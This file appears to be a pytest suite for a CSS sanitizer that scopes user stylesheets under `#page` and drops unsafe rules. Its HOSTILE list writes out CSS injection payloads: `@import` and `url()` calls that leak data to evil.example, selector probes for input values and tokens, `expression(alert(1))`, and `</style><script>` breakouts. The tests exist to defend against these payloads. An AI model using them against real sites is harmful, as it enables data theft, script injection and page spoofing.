import re

import pytest
from hypothesis import given
from hypothesis import strategies as some

from pingpong.kit.page_css import MAX_BYTES, Dropped, Why, filter_css

# What leaks, covers, hides or breaks out, each of them known from elsewhere.
HOSTILE = [
    "@import 'https://evil.example/x.css';",
    '@import url("//evil.example/x.css");',
    "@charset 'utf-7';",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "@font-face{font-family:x;src:url(https://evil.example/f.woff)}",
    "@keyframes x{from{left:0}to{left:9px}}",
    "@layer a{p{color:red}}",
    "@supports (display:grid){p{color:red}}",
    "@media print{p{color:red}}",
    "@property --x{syntax:'<url>';inherits:true;initial-value:url(x)}",
    "p{background:url(https://evil.example/?a)}",
    "p{background:URL('//evil.example/?a')}",
    r"p{background:\75\72\6c(//evil.example)}",
    r"p{background:u\rl(//evil.example)}",
    "p{background-image:image-set('https://evil.example/a' 1x)}",
    "p{background:src('https://evil.example')}",
    "p{list-style-image:url(x)}",
    "p{cursor:url(x),auto}",
    "p{content:url(x)}",
    "p::before{content:'All systems down'}",
    "p:before{content:'x'}",
    "input[value^='a']{color:red}",
    "a[href*=token]{background:red}",
    "[data-x]{color:red}",
    "p:has(input){color:red}",
    "p:not(.x){color:red}",
    "p:nth-child(2){color:red}",
    ":root{color:red}",
    "*{display:none}",
    "html,body *{color:red}::selection{color:red}",
    "p{position:fixed}",
    "p{position:sticky;top:0}",
    "p{position:absolute;inset:0}",
    "h1{display:none}",
    "h1{display:contents}",
    "h1{visibility:hidden}",
    "h1{opacity:0}",
    "h1{transform:scale(0)}",
    "h1{clip-path:inset(50%)}",
    "h1{text-indent:-9999px}",
    "h1{margin-left:-9999px}",
    "h1{margin:calc(0px - 900px)}",
    "h1{margin-left:900vw}",
    "h1{font-size:99999px}",
    "h1{z-index:99}",
    "h1{outline:400px solid red}",
    "h1{content-visibility:hidden}",
    "h1{filter:blur(9px)}",
    "h1{mask:url(x)}",
    "h1{height:0;overflow:hidden}",
    "p{width:expression(alert(1))}",
    "p{color:expression(alert(1))}",
    "p{behavior:url(x.htc)}",
    "p{-moz-binding:url(x)}",
    "p{--ink:#fff}",
    "p{color:attr(href)}",
    "p{color:env(x)}",
    "p{font-family:'</style><script>alert(1)</script>'}",
    "</style><script>alert(1)</script>p{color:red}",
    "p{color:red}</style>",
    r"p{font-family:\3c /style\3e }",
    "+ p{color:red}",
    "> p{color:red}",
    "~ p{color:red}",
    ".a,{color:red}",
    "p{color:red;p{position:fixed}}",
    "&{display:none}",
    "p{color:red}}html{display:none}",
    "a{all:unset}",
    "a{animation:x 1s}",
    "a{transition:all 9s}",
    "p{color:red\0}",
]
ALLOWED = re.compile(
    r"(?:@media [a-z0-9 ():.-]+\{)?(?:#page [\w .#:>+~,-]+\{[^{}<>\\@]+\} ?)+\}?\Z", re.ASCII
)


@pytest.mark.parametrize("css", HOSTILE)
def test_hostile_rule_leaves_nothing_that_reaches_out(css: str) -> None:
    found = filter_css(css)
    assert found.dropped
    assert [line for line in found.css.splitlines() if not ALLOWED.fullmatch(line)] == []
    words = (
        "url",
        "import",
        "expression",
        "position",
        "none",
        "<",
        "\\",
        "!",
        "[",
        "@f",
        "--",
        "%",
    )
    assert [word for word in words if word in found.css.lower()] == []


@given(some.text(max_size=300) | some.lists(some.sampled_from(HOSTILE), max_size=4).map("".join))
def test_whatever_is_filtered_is_scoped_and_stays_as_it_is(text: str) -> None:
    css = filter_css(text).css
    assert [line for line in css.splitlines() if not ALLOWED.fullmatch(line)] == []
    assert filter_css(css.replace("#page ", "")).css == css


def test_plain_rules_stay_below_the_page() -> None:
    css = """
    .card, h2 > a:hover { color: #1F5F46; border-radius: .5rem }
    @media (min-width: 40rem) and (prefers-color-scheme: dark) { .name { font-weight: 700 } }
    .top { background: linear-gradient(90deg, var(--paper), rgb(1 2 3 / 50%)) }
    p { font-family: "Helvetica Neue", Arial, sans-serif }
    """
    found = filter_css(css)
    assert found.dropped == ()
    assert found.css.splitlines() == [
        "#page .card,#page h2 > a:hover{color:#1F5F46;border-radius:0.5rem}",
        "@media (min-width: 40rem) and (prefers-color-scheme: dark){#page .name{font-weight:700}}",
        "#page .top{background:linear-gradient(90deg, var(--paper), rgb(1 2 3 / 50%))}",
        '#page p{font-family:"Helvetica Neue", Arial, sans-serif}',
    ]


def test_what_was_dropped_is_told_with_its_line() -> None:
    css = "p {\n  color: red;\n  position: fixed;\n}\n@import 'x';\na[href] { color: red }"
    assert filter_css(css).dropped == (
        Dropped(3, "position", Why.PROPERTY),
        Dropped(5, "@import", Why.AT_RULE),
        Dropped(6, "a[href]", Why.SELECTOR),
    )


def test_importance_is_taken_away_and_the_rule_kept() -> None:
    found = filter_css("p{color:red!important}")
    assert found.css == "#page p{color:red}"
    assert [one.why for one in found.dropped] == [Why.IMPORTANT]


def test_too_long_a_sheet_is_refused_whole() -> None:
    found = filter_css("p{color:red}" * (MAX_BYTES // 12 + 1))
    assert (found.css, found.dropped[0].why) == ("", Why.TOO_LONG)


def test_deep_nesting_ends_quietly() -> None:
    assert filter_css("p{color:" + "min(" * 8000).css == ""
    assert filter_css("@media (a){" * 2000).css == ""


@pytest.mark.parametrize(
    "text",
    [
        "/*" + ")" * 9000 + "*/a{color:" + "(" * 8000 + "}",
        '"' + ")" * 9000 + '"{}a{color:' + "min(" * 5000 + "}",
        "a{color:" + "(/*)*/" * 5000 + "}",
        "/*" + "]" * 9000 + "*/@media " + "[" * 9000 + "{a{color:red}}",
        "/*" + "}" * 9000 + "*/" + "{" * 9000,
    ],
)
def test_brackets_that_are_none_hide_no_deep_nesting(text: str) -> None:
    assert filter_css(text).css == ""
